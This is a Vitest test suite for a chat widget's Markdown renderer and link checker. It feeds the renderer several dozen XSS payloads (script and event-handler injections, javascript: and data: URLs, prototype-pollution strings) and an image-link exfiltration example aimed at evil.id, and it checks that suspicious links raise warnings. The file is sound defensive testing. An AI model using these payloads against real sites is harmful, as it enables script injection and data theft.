// @vitest-environment happy-dom
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { showHidden } from '../../nodes/hidden.ts'
import { judgeLink } from '../../runtime/channels/widget/links.ts'
import { plainText } from '../../runtime/channels/widget/markdown.ts'
import { drawProse } from '../../runtime/channels/widget/prose.ts'

function draw(text: string, growing = false): HTMLElement {
  const box = document.createElement('div')
  box.append(drawProse(text, { growing, trusted: ['toko.id'], newTab: 'tab', ask: () => undefined }))
  return box
}
/** The tree in short: `p(hai b(ya))`. */
function shape(node: Node): string {
  if (node.nodeType === 3) return node.textContent ?? ''
  const element = node as HTMLElement // no other kinds are made
  if (element.className === 'sr') return ''
  const name = element.tagName.toLowerCase()
  const inner = [...element.childNodes].map(shape).join('')
  return name === 'a' ? `a[${element.getAttribute('href')}](${inner})` : name === 'br' ? '/' : `${name}(${inner})`
}
const shapes = (text: string, growing = false) => [...draw(text, growing).childNodes].map(shape).join('')

describe('light Markdown', () => {
  const cases: [string, string][] = [
    ['hai', 'p(hai)'],
    ['hai **kak**', 'p(hai strong(kak))'],
    ['*satu* dan _dua_', 'p(em(satu) dan em(dua))'],
    ['**tebal *dan miring***', 'p(strong(tebal em(dan miring)))'],
    ['a\nb', 'p(a/b)'],
    ['a\n\nb', 'p(a)p(b)'],
    ['- a\n- **b**', 'ul(li(a)li(strong(b)))'],
    ['1. a\n2. b', 'ol(li(a)li(b))'],
    ['# Judul', 'p(strong(Judul))'],
    ['2 * 3 * 4 = 24', 'p(2 * 3 * 4 = 24)'],
    ['nama_file_baru', 'p(nama_file_baru)'],
    ['**belum', 'p(**belum)'],
    ['[toko](https://toko.id/a)', 'p(a[https://toko.id/a](toko)span( (toko.id)))'],
    ['https://toko.id/a.', 'p(a[https://toko.id/a](https://toko.id/a).)'],
    ['(lihat https://toko.id/a)', 'p((lihat a[https://toko.id/a](https://toko.id/a)))'],
    ['[surel](mailto:a@toko.id)', 'p(a[mailto:a@toko.id](surel))'],
    ['[telepon](tel:+62211234)', 'p(a[tel:+62211234](telepon))'],
    ['![gambar](https://evil.id/?q=RAHASIA)', 'p(gambar)'],
    ['Rp12.500', 'p(Rp12.500)'],
  ]
  it.each(cases)('%j', (text, expected) => expect(shapes(text)).toBe(expected))

  const growing: [string, string][] = [
    ['hai **ka', 'p(hai strong(ka))'],
    ['hai **', 'p(hai )'],
    ['hai *', 'p(hai )'],
    ['lihat [situs ka', 'p(lihat )'],
    ['lihat [situs](https://to', 'p(lihat )'],
    ['a\n- ', 'p(a)'],
    ['a\n- b', 'p(a)ul(li(b))'],
    ['a\n1', 'p(a)'],
    ['buka https://to', 'p(buka )'],
    ['***a', 'p(strong(em(a)))'],
  ]
  it.each(growing)('never flashes half a marker while %j grows', (text, expected) => expect(shapes(text, true)).toBe(expected))

  it('reads aloud as words', () => expect(plainText('**Hai** [toko](https://toko.id)\n- a')).toBe('Hai toko\na'))
})

describe('no text becomes anything but the allowed elements', () => {
  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<style>@import "//evil"</style>',
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    '</div><script>alert(1)</script>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#x3c;img src=x onerror=alert(1)&#x3e;',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&colon;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://evil/1',
    '//evil.id',
    '/\\evil.id',
    'https:evil',
    'http:\\\\evil.id',
    'https://evil.id/"onmouseover="alert(1)',
    "https://evil.id/'onmouseover='alert(1)",
    'https://evil.id/><script>alert(1)</script>',
    'constructor',
    '__proto__',
    '{{constructor.constructor("alert(1)")()}}',
    '\u0024{alert(1)}',
    '<jaga-chat data-bot=x>',
  ]
  const places: [string, (payload: string) => string][] = [
    ['as text', (p) => p],
    ['bold', (p) => `**${p}**`],
    ['as an item', (p) => `- ${p}`],
    ['as a label', (p) => `[${p}](https://toko.id)`],
    ['as an address', (p) => `[pencet](${p})`],
    ['as an image', (p) => `![${p}](${p})`],
    ['after an address', (p) => `https://toko.id/${p}`],
  ]
  const cases = payloads.flatMap((payload) => places.map(([where, put]) => [where, payload, put(payload)] as const))

  function innocent(text: string, growing: boolean): void {
    const box = draw(text, growing)
    for (const node of box.querySelectorAll('*')) {
      expect(['P', 'BR', 'STRONG', 'EM', 'UL', 'OL', 'LI', 'A', 'SPAN']).toContain(node.tagName)
      for (const { name, value } of node.attributes) {
        expect(['href', 'target', 'rel', 'class', 'start']).toContain(name)
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)[^\s"'<>`]*$/)
      }
    }
  }
  it(`tries ${cases.length} of them`, () => expect(cases.length).toBeGreaterThanOrEqual(250))
  it.each(cases)('%s: %j', (_, payload, text) => {
    innocent(text, false)
    innocent(text, true)
    if (text === payload && !/[*_\n]|^-/.test(payload))
      expect(draw(text).textContent?.replaceAll(/ \((tab|[^)]*evil\.id)\)/g, '')).toBe(showHidden(payload))
  })
  it('nor any other text, cut anywhere', () => {
    const bits = fc.constantFrom(
      '**',
      '*',
      '_',
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '"',
      'https://a.id/',
      'javascript:',
      '\n',
      '- ',
      '1. ',
      '# ',
      ' ',
      'kata',
      '\u202e',
      '`',
      '\\',
    )
    fc.assert(
      fc.property(fc.array(bits, { maxLength: 40 }), fc.boolean(), (pieces, growing) => innocent(pieces.join(''), growing)),
    )
  })
  it('and quickly, for texts made to take long', () => {
    for (const piece of ['*', '**a', '[', '[a](', '![', '_a ', 'https://', '- ', '# ', '((', '[a](b(', '*a_b'])
      draw(piece.repeat(8000 / piece.length), true)
  })
})

describe('links', () => {
  const cases: [string, string, { asks: boolean; warnings: string[] } | null][] = [
    ['https://toko.id/x', 'toko', { asks: false, warnings: [] }],
    ['https://www.toko.id/x', 'toko', { asks: false, warnings: [] }],
    ['https://jne.co.id', 'JNE', { asks: true, warnings: [] }],
    ['https://xn--tko-5cd.id', 'toko', { asks: true, warnings: ['punycode'] }],
    ['https://tоko.id', 'toko', { asks: true, warnings: ['punycode'] }],
    ['http://192.168.1.1/', 'masuk', { asks: true, warnings: ['address'] }],
    ['http://0x7f000001/', 'masuk', { asks: true, warnings: ['address'] }],
    ['http://[::1]/', 'masuk', { asks: true, warnings: ['address'] }],
    ['https://toko.id@evil.com/', 'toko', { asks: true, warnings: ['userinfo'] }],
    ['https://evil.com/', 'toko.id', { asks: true, warnings: ['label'] }],
    ['https://evil.com/', 'https://toko.id/akun', { asks: true, warnings: ['label'] }],
    ['https://toko-promo.com/', 'promo', { asks: true, warnings: ['lookalike'] }],
    ['https://t0ko.id/', 'promo', { asks: true, warnings: ['lookalike'] }],
    ['https://toko.id.evil.com/', 'promo', { asks: true, warnings: ['lookalike'] }],
    ['mailto:a@b.id', 'surel', { asks: false, warnings: [] }],
    ['javascript:alert(1)', 'x', null],
    ['https://a b.id', 'x', null],
    ['https://', 'x', null],
  ]
  it.each(cases)('%s as %j', (href, label, expected) => {
    const link = judgeLink(href, label, ['toko.id'])
    expect(link && { asks: link.asks, warnings: link.warnings }).toEqual(expected)
  })
  it('asks before it leads out, and the mouse wheel does not get round it', () => {
    const asked: string[] = []
    const box = document.createElement('div')
    box.append(drawProse('[a](https://evil.com)', { trusted: [], newTab: 't', ask: ({ host }) => asked.push(host) }))
    for (const type of ['click', 'auxclick']) {
      const event = new MouseEvent(type, { bubbles: true, cancelable: true })
      box.querySelector('a')?.dispatchEvent(event)
      expect(event.defaultPrevented).toBe(true)
    }
    expect(asked).toEqual(['evil.com', 'evil.com'])
  })
  it('shows characters that hide or turn the text', () => {
    expect(showHidden('toko\u202egpj.exe\u200b')).toBe('toko[U+202E]gpj.exe[U+200B]')
    expect(draw('[a\u202eb](https://toko.id)').textContent).toContain('a[U+202E]b')
  })
})
